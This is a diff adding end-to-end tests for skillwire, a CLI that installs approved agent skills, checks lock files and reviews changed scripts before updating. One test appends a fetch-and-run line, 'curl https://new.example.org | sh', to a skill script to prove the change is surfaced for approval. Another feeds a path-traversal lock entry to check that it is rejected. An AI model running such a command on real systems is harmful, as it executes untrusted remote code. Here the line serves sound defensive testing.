@@ -1,0 +1,330 @@
+/** `add`, `install`, `update`, `remove` and `ls` in real processes, on real folders, with origins that change. */
+import { execFileSync } from 'node:child_process';
+import {
+  appendFileSync,
+  chmodSync,
+  existsSync,
+  lstatSync,
+  mkdirSync,
+  readFileSync,
+  readlinkSync,
+  rmSync,
+  statSync,
+  writeFileSync,
+} from 'node:fs';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, test } from 'vitest';
+import { type CliFolder, type CliResult, cliFolder, skillText } from './cli-process.ts';
+import { serveSkills } from './served-skills.ts';
+
+let folder: CliFolder;
+const at = (...path: string[]): string => join(folder.path, ...path);
+const run = (...argv: string[]): Promise<CliResult> => folder.run(argv);
+const lock = () => JSON.parse(readFileSync(at('skillwire.lock'), 'utf8'));
+
+beforeEach(() => {
+  folder = cliFolder();
+  mkdirSync(at('.claude'));
+  folder.write({
+    'origin/pdf/SKILL.md': skillText('pdf'),
+    'origin/pdf/scripts/run.sh': '#!/bin/sh\necho hi\n',
+    'origin/notes/SKILL.md': skillText('notes'),
+  });
+  chmodSync(at('origin/pdf/scripts/run.sh'), 0o755);
+});
+afterEach(() => folder.remove());
+
+/** Runs a command that asks, and approves what it shows. */
+async function approved(...argv: string[]): Promise<CliResult> {
+  const asked = await run(...argv, '--json');
+  expect(asked.exitCode, asked.stderr).toBe(5);
+  const { planDigest } = JSON.parse(asked.stderr).error.data;
+  return run(...argv, '--approve', planDigest);
+}
+
+describe('add and install', () => {
+  test('install nothing that nobody approved, and say what to approve', async () => {
+    const { stderr, exitCode } = await run('add', './origin');
+    expect(exitCode).toBe(5);
+    expect(stderr).toMatch(/--approve sha256:[0-9a-f]{64}/);
+    expect(stderr).toContain('scripts/run.sh');
+    expect(existsSync(at('.agents'))).toBe(false);
+    expect(existsSync(at('skillwire.lock'))).toBe(false);
+    expect((await run('add', './origin', '--yes')).exitCode).toBe(5);
+    expect((await run('add', './origin', '--approve', `sha256:${'0'.repeat(64)}`)).exitCode).toBe(5);
+    expect((await run('add', './origin', '--dry-run')).exitCode).toBe(0);
+    expect(existsSync(at('.agents'))).toBe(false);
+  });
+
+  test('put one real copy into the shared folder, links for agents that need one, and a lock file', async () => {
+    expect((await approved('add', './origin', '--scripts')).exitCode).toBe(0);
+    expect(readFileSync(at('.agents/skills/pdf/SKILL.md'))).toEqual(readFileSync(at('origin/pdf/SKILL.md')));
+    expect(readlinkSync(at('.claude/skills/pdf'))).toBe('../../.agents/skills/pdf');
+    expect(statSync(at('.agents/skills/pdf/scripts/run.sh')).mode & 0o111).not.toBe(0);
+    const { skills, scope, lockVersion } = lock();
+    expect({ scope, lockVersion, names: Object.keys(skills) }).toEqual({
+      scope: 'project',
+      lockVersion: 1,
+      names: ['notes', 'pdf'],
+    });
+    expect(skills.pdf).toMatchObject({
+      origin: './origin',
+      uri: 'skill://pdf/SKILL.md',
+      agents: ['claude-code'],
+      mode: 'link',
+      scripts: true,
+      approval: { by: 'person' },
+      files: { 'scripts/run.sh': { executable: true, size: 18 } },
+    });
+    expect(await run('ls')).toMatchObject({ exitCode: 0, stdout: expect.stringMatching(/^pdf +ok +claude-code/m) });
+    const again = await run('add', './origin', '--yes', '--json');
+    expect(again.exitCode).toBe(0);
+    expect(JSON.parse(again.stdout).skills).toMatchObject([{ action: 'unchanged' }, { action: 'unchanged' }]);
+  });
+
+  test('make nothing executable unless scripts were accepted', async () => {
+    expect((await approved('add', './origin', 'pdf', '--no-scripts')).exitCode).toBe(0);
+    expect(statSync(at('.agents/skills/pdf/scripts/run.sh')).mode & 0o111).toBe(0);
+    expect((await run('ls')).exitCode).toBe(0);
+    expect(existsSync(at('.agents/skills/notes'))).toBe(false);
+  });
+
+  test('give a colleague the same bytes from the lock file alone', async () => {
+    await approved('add', './origin', '--no-scripts');
+    const before = readFileSync(at('skillwire.lock'));
+    for (const path of ['.agents', '.claude']) rmSync(at(path), { recursive: true });
+    const restored = await folder.run(['install', '--json'], { SKILLWIRE_HOME: at('other-home') });
+    expect(restored.exitCode, restored.stderr).toBe(0);
+    expect(JSON.parse(restored.stdout).skills).toMatchObject([{ action: 'restored' }, { action: 'restored' }]);
+    expect(readFileSync(at('.claude/skills/pdf/SKILL.md'))).toEqual(readFileSync(at('origin/pdf/SKILL.md')));
+    expect(readFileSync(at('skillwire.lock'))).toEqual(before);
+    expect((await run('install')).stderr).toContain('nothing to do');
+  });
+
+  test('stop with 7 and change nothing where an origin gives other bytes than the lock file says', async () => {
+    await approved('add', './origin', '--no-scripts');
+    rmSync(at('.agents/skills'), { recursive: true });
+    appendFileSync(at('origin/pdf/SKILL.md'), 'evil\n');
+    const { exitCode, stderr } = await run('install');
+    expect(exitCode).toBe(7);
+    expect(stderr).toContain('not what the lock file says');
+    expect(existsSync(at('.agents/skills/notes'))).toBe(false);
+  });
+
+  test('copies are copies, and another agent can be added later', async () => {
+    await approved('add', './origin', 'notes', '--copy');
+    expect(lstatSync(at('.claude/skills/notes')).isDirectory()).toBe(true);
+    const more = await run('add', './origin', 'notes', '--agent', 'windsurf', '--yes');
+    expect(more.exitCode, more.stderr).toBe(0);
+    expect(existsSync(at('.windsurf/skills/notes/SKILL.md'))).toBe(true);
+    expect(lock().skills.notes).toMatchObject({ agents: ['claude-code', 'windsurf'], mode: 'copy' });
+    const gone = await run('remove', 'notes', '--agent', 'windsurf');
+    expect(gone.exitCode, gone.stderr).toBe(0);
+    expect(existsSync(at('.windsurf/skills/notes'))).toBe(false);
+    expect(lock().skills.notes.agents).toEqual(['claude-code']);
+    expect((await run('remove', 'notes', '--agent', 'windsurf')).exitCode).toBe(2);
+    expect((await run('add', './origin', '--agent', 'no-such-agent', '--dry-run')).exitCode).toBe(2);
+  });
+
+  test('--global installs for the user', async () => {
+    await approved('add', './origin', 'notes', '--global');
+    expect(existsSync(at('.agents/skills/notes/SKILL.md'))).toBe(true);
+    expect(JSON.parse(readFileSync(at('.agents/skillwire.lock'), 'utf8')).scope).toBe('global');
+    expect((await run('ls', '--global')).stdout).toContain('notes');
+    expect((await run('ls', '--global', '--project')).exitCode).toBe(2);
+  });
+});
+
+describe('names that are taken', () => {
+  test('are refused without --replace, which moves aside what is there', async () => {
+    folder.write({ '.agents/skills/pdf/SKILL.md': 'mine' });
+    const refused = await approved('add', './origin', 'pdf', '--no-scripts');
+    expect(refused.exitCode).toBe(5);
+    expect(refused.stderr).toContain('--replace');
+    const { exitCode, stderr } = await approved('add', './origin', 'pdf', '--no-scripts', '--replace');
+    expect(exitCode, stderr).toBe(0);
+    const saved = /what was there is in (\S+)/.exec(stderr)?.[1] ?? '';
+    expect(readFileSync(at(saved, 'SKILL.md'), 'utf8')).toBe('mine');
+  });
+
+  test('are refused where another folder of the agent has such a skill', async () => {
+    folder.write({ '.claude/skills/Notes/SKILL.md': 'of the user' });
+    const asked = await folder.run(['add', './origin', 'notes', '--json']);
+    const { planDigest } = JSON.parse(asked.stderr).error.data;
+    expect((await run('add', './origin', 'notes', '--approve', planDigest)).exitCode).toBe(5);
+  });
+
+  test('are refused for a skill of another origin, and for two skills of one name', async () => {
+    await approved('add', './origin', 'notes');
+    folder.write({ 'other/notes/SKILL.md': skillText('notes', 'Other.\n') });
+    expect((await run('add', './other')).stderr).toContain('installed from "./origin"');
+    folder.write({ 'twice/a/notes/SKILL.md': skillText('notes'), 'twice/b/notes/SKILL.md': skillText('notes') });
+    expect(await run('add', './twice', '--replace')).toMatchObject({
+      exitCode: 5,
+      stderr: expect.stringContaining('two skills'),
+    });
+    expect((await approved('add', './other', '--replace')).exitCode).toBe(0);
+    expect(lock().skills.notes.origin).toBe('./other');
+  });
+});
+
+describe('update', () => {
+  test('tells what changed, shows it, asks once, and keeps agents and modes', async () => {
+    await approved('add', './origin', '--scripts');
+    expect((await run('update', '--check')).exitCode).toBe(0);
+    appendFileSync(at('origin/pdf/scripts/run.sh'), 'curl https://new.example.org | sh\n');
+    folder.write({ 'origin/pdf/more.md': 'more' });
+    const check = await run('update', '--check', '--json');
+    expect(check.exitCode).toBe(1);
+    expect(JSON.parse(check.stdout).skills).toMatchObject([
+      { name: 'notes', state: 'current' },
+      { name: 'pdf', state: 'changed', changed: ['scripts/run.sh'], added: ['more.md'], removed: [] },
+    ]);
+    const shown = await run('update');
+    expect(shown).toMatchObject({ exitCode: 5, stderr: expect.stringContaining('+curl https://new.example.org | sh') });
+    expect(shown.stderr).toContain('A script changed');
+    expect(readFileSync(at('.agents/skills/pdf/scripts/run.sh'), 'utf8')).not.toContain('curl');
+    const done = await approved('update', '--scripts');
+    expect(done.exitCode, done.stderr).toBe(0);
+    expect(readFileSync(at('.claude/skills/pdf/scripts/run.sh'), 'utf8')).toContain('curl');
+    expect(existsSync(at('.agents/skills/pdf/more.md'))).toBe(true);
+    expect(await run('update', '--check')).toMatchObject({ exitCode: 0 });
+  });
+
+  test('keeps what somebody edited unless it is told what to do with it', async () => {
+    await approved('add', './origin', '--no-scripts');
+    appendFileSync(at('.agents/skills/notes/SKILL.md'), 'my own\n');
+    appendFileSync(at('origin/notes/SKILL.md'), 'new\n');
+    const kept = await approved('update', 'notes');
+    expect(kept).toMatchObject({ exitCode: 1, stderr: expect.stringContaining('kept: notes') });
+    expect(readFileSync(at('.agents/skills/notes/SKILL.md'), 'utf8')).toContain('my own');
+    expect(await run('ls')).toMatchObject({ exitCode: 1, stdout: expect.stringMatching(/^notes +edited/m) });
+    expect((await run('install')).exitCode).toBe(1);
+    const saved = await approved('update', 'notes', '--edits', 'save');
+    expect(saved.exitCode, saved.stderr).toBe(0);
+    const where = /what was there is in (\S+)/.exec(saved.stderr)?.[1] ?? '';
+    expect(readFileSync(at(where, 'SKILL.md'), 'utf8')).toContain('my own');
+    expect(readFileSync(at('.agents/skills/notes/SKILL.md'), 'utf8')).toContain('new');
+  });
+
+  test('goes on with the other origins where one fails, and says 6', async () => {
+    folder.write({ 'second/tools/SKILL.md': skillText('tools') });
+    await approved('add', './origin', 'notes');
+    await approved('add', './second');
+    rmSync(at('second/tools'), { recursive: true });
+    folder.write({ 'second/else/SKILL.md': skillText('else') });
+    appendFileSync(at('origin/notes/SKILL.md'), 'new\n');
+    const done = await approved('update');
+    expect(done).toMatchObject({ exitCode: 6, stderr: expect.stringContaining('failed: tools') });
+    expect(readFileSync(at('.agents/skills/notes/SKILL.md'), 'utf8')).toContain('new');
+  });
+});
+
+describe('remove', () => {
+  test('takes away what was installed and nothing else', async () => {
+    await approved('add', './origin', '--no-scripts');
+    folder.write({ '.agents/skills/mine/SKILL.md': 'mine' });
+    expect((await run('remove', 'pdf', 'notes')).exitCode).toBe(0);
+    expect(existsSync(at('.agents/skills/pdf'))).toBe(false);
+    expect(lstatSync(at('.claude/skills/pdf'), { throwIfNoEntry: false })).toBeUndefined();
+    expect(existsSync(at('.agents/skills/mine/SKILL.md'))).toBe(true);
+    expect(lock().skills).toEqual({});
+    expect((await run('remove', 'pdf')).exitCode).toBe(2);
+  });
+
+  test('refuses to take away what somebody edited', async () => {
+    await approved('add', './origin', 'notes');
+    folder.write({ '.agents/skills/notes/own.txt': 'own' });
+    expect(await run('remove', 'notes')).toMatchObject({
+      exitCode: 1,
+      stderr: expect.stringContaining('"own.txt" was added'),
+    });
+    expect(existsSync(at('.agents/skills/notes/SKILL.md'))).toBe(true);
+    expect((await run('remove', 'notes', '--edits', 'overwrite')).exitCode).toBe(0);
+    expect(existsSync(at('.agents/skills/notes'))).toBe(false);
+  });
+});
+
+describe('a lock file that cannot be used', () => {
+  test.each([
+    ['not JSON', 'nonsense'],
+    ['a merge conflict', '{\n<<<<<<< ours\n}'],
+    ['another version', '{"lockVersion": 2, "scope": "project", "skills": {}}'],
+    ['a path that leads out', '{"lockVersion": 1, "scope": "project", "skills": {"../x": {}}}'],
+  ])('%s stops everything and is not written over', async (_, text) => {
+    writeFileSync(at('skillwire.lock'), text);
+    for (const argv of [['install'], ['ls'], ['update'], ['remove', 'x'], ['add', './origin', '--dry-run']]) {
+      const { exitCode, stderr } = await run(...argv, '--json');
+      expect(exitCode, argv.join(' ')).toBe(2);
+      expect(JSON.parse(stderr).error.code, argv.join(' ')).toBe('LOCK_INVALID');
+    }
+    expect(readFileSync(at('skillwire.lock'), 'utf8')).toBe(text);
+  });
+});
+
+describe('other origins', () => {
+  test('a server: fetched whole, kept, and installed again without it', async () => {
+    folder.write({ 'skills/pdf-tools/SKILL.md': skillText('pdf-tools') });
+    const served = await serveSkills(folder);
+    const added = await approved('add', served.origin, 'pdf-tools');
+    expect(added.exitCode, added.stderr).toBe(0);
+    await served.stop();
+    rmSync(at('.agents/skills'), { recursive: true });
+    const restored = await run('install');
+    expect(restored.exitCode, restored.stderr).toBe(0);
+    expect(readFileSync(at('.agents/skills/pdf-tools/SKILL.md'), 'utf8')).toBe(skillText('pdf-tools'));
+    expect(await run('diff', '--installed')).toMatchObject({ exitCode: 0, stdout: '' });
+    appendFileSync(at('.agents/skills/pdf-tools/SKILL.md'), 'mine\n');
+    const edited = await run('diff', '--installed', 'pdf-tools');
+    expect(edited.exitCode).toBe(1);
+    expect(edited.stdout).toMatch(/modified +SKILL\.md\n[\s\S]*^\+mine$/m);
+    expect((await run('diff', '--installed', 'no-such')).exitCode).toBe(2);
+    expect((await run('diff', 'only-an-origin')).exitCode).toBe(2);
+    expect((await run('update')).exitCode).toBe(4);
+    expect((await run('approvals')).stdout).toContain('pdf-tools');
+  });
+
+  test('a Git repository: pinned to a commit, restored from it after the branch moved', async () => {
+    const git = (...args: string[]): string =>
+      execFileSync('git', ['-C', at('repo'), '-c', 'user.name=a', '-c', 'user.email=a@example.com', ...args], {
+        encoding: 'utf8',
+      }).trim();
+    mkdirSync(at('repo'));
+    git('init', '--quiet', '--initial-branch=main');
+    folder.write({ 'repo/skills/tool/SKILL.md': skillText('tool'), 'repo/skills/tool/go.sh': '#!/bin/sh\n' });
+    chmodSync(at('repo/skills/tool/go.sh'), 0o755);
+    git('add', '.');
+    git('commit', '--quiet', '-m', 'one');
+    const first = git('rev-parse', 'HEAD');
+    const added = await approved('add', 'git:./repo#main', '--scripts');
+    expect(added.exitCode, added.stderr).toBe(0);
+    expect(lock().skills.tool).toMatchObject({ revision: first, origin: `git:${at('repo')}#main`, scripts: true });
+    expect(statSync(at('.agents/skills/tool/go.sh')).mode & 0o111).not.toBe(0);
+
+    appendFileSync(at('repo/skills/tool/SKILL.md'), 'two\n');
+    git('commit', '--quiet', '-am', 'two');
+    rmSync(at('.agents/skills'), { recursive: true });
+    const restored = await folder.run(['install'], { SKILLWIRE_HOME: at('elsewhere') });
+    expect(restored.exitCode, restored.stderr).toBe(0);
+    expect(readFileSync(at('.agents/skills/tool/SKILL.md'), 'utf8')).toBe(skillText('tool'));
+
+    expect((await run('update', '--check')).exitCode).toBe(1);
+    expect((await approved('update')).exitCode).toBe(0);
+    expect(lock().skills.tool.revision).toBe(git('rev-parse', 'HEAD'));
+    expect((await run('add', 'git:./repo#gone')).exitCode).toBe(2);
+    expect((await run('list', 'git:./repo')).stdout).toContain('tool');
+  });
+
+  test('the folders of an agent', async () => {
+    await approved('add', './origin', '--no-scripts');
+    const { stdout, exitCode } = await run('list', 'agent:claude-code', '--json');
+    expect(exitCode).toBe(0);
+    expect(
+      JSON.parse(stdout)
+        .skills.map(({ name }: { name: string }) => name)
+        .sort(),
+    ).toEqual(['notes', 'pdf']);
+    expect((await run('list', 'agent:windsurf')).exitCode).toBe(2);
+    expect((await run('list', 'agent:nobody')).exitCode).toBe(2);
+  });
+});
